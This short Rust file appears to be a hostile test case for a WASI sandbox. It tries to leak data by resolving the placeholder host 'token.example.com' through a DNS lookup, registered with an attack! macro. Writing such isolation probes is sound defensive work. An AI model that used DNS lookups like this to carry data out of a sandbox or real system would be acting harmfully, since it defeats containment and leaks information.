//! Looks up a name, which is a way to leak something.

use intune_sync_hostile::{Graph, attack, wasi};

fn attempt(_graph: &Graph) -> String {
    let network = wasi::sockets::instance_network::instance_network();
    let name = "token.example.com";
    let addresses = wasi::sockets::ip_name_lookup::resolve_addresses(&network, name);
    format!("{addresses:?}")
}

attack!(attempt);
